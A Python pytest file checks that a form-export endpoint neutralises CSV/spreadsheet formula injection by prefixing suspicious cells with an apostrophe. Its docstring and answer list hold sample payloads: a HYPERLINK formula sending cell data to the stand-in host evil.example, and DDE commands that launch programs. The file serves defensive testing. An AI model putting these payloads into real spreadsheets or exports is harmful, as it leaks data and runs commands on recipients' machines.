"""Security pass: a person's answer must not run as a formula in the worker's spreadsheet.

`GET /work/forms/<form>/export.zip` writes each answer into `<form>.csv` as the person typed it. A worker opens
that file in Excel or LibreOffice Calc, which reads a cell starting with `=`, `+`, `-` or `@` (or a tab or carriage
return before one) as a formula: `=HYPERLINK("https://evil.example/?"&B2,"Click for details")` sends the
worker's other cells to a stranger's server when clicked, and DDE formulas (`=cmd|' /C calc'!A0`) run programs
on older Office. A person on probation, or whoever holds their phone, chose those answers. Now such a cell is
written with a leading apostrophe (OWASP's advice for CSV injection), which the spreadsheet shows as text; a
number the form took as a number (-3.5) is written as it was."""

from __future__ import annotations

import csv
import io
import uuid
import zipfile

import pytest
import workkit
from consolekit import BASE, post
from formkit import xlsform

from hub import db
from hub.forms import submissions
from hub.sync import uploads
from wire.records import timestamp

console_app, as_worker = workkit.console_app, workkit.as_worker
WORKERS = {name: workkit.WORKERS[name] for name in ("olivia", "tom")}
ANSWERS = ['=HYPERLINK("https://evil.example/?"&B2,"Click for details")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def team(console_app) -> workkit.Team:
    workers = {name: workkit.make_worker(console_app, name, role, team) for name, (role, team) in WORKERS.items()}
    return workkit.Team(workers, {"olivia": workkit.add_person(console_app, "olivia")}, "", admin=None)


@pytest.fixture(scope="module")
def exported(console_app, team, as_worker) -> list[dict]:
    answer = post(as_worker("tom"), "/work/forms/publish", {"file": (io.BytesIO(xlsform("job_search", "1", survey=[
        ["text", "note", "Anything else?", "Unrhyw beth arall?", "", "", "", ""],
        ["decimal", "change", "Change in hours", "Newid yn yr oriau", "", "", "", ""]])), "jobs.xlsx"),
        "form_id": ""}, page="/work/forms/publish")
    assert answer.status_code == 303, answer.get_data(as_text=True)
    person = team.person["olivia"]
    with console_app.app_context(), db.proxy.connection_context():
        store = uploads.Store(console_app.config["ATTACHMENTS_DIR"], console_app.config["ATTACHMENTS_KEY_FILE"])
        for note in [*ANSWERS, "plain words"]:
            body = {"form_id": "job_search", "version": "1", "filled_at": timestamp(),
                    "values": {"note": note, "change": -3.5}}
            with db.proxy.atomic():
                submissions.receive(person, str(uuid.uuid4()), body, submissions.pixels_reader(store))
    got = as_worker("olivia").get("/work/forms/job_search/export.zip", base_url=BASE)
    assert got.status_code == 200
    with zipfile.ZipFile(io.BytesIO(got.data)) as archive:
        return list(csv.DictReader(io.StringIO(archive.read("job_search.csv").decode())))


def test_an_answer_that_looks_like_a_formula_is_exported_as_text(exported):
    notes = {row["note"] for row in exported}
    assert notes == {"'" + text for text in ANSWERS} | {"plain words"}
    for row in exported:  # no cell a spreadsheet reads as a formula, in any column
        for name, cell in row.items():
            assert not cell or cell[0] not in "=+@\t\r" and (cell[0] != "-" or _number(cell)), (name, cell)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_a_negative_number_is_still_a_number(exported):
    assert {row["change"] for row in exported} == {"-3.5"}
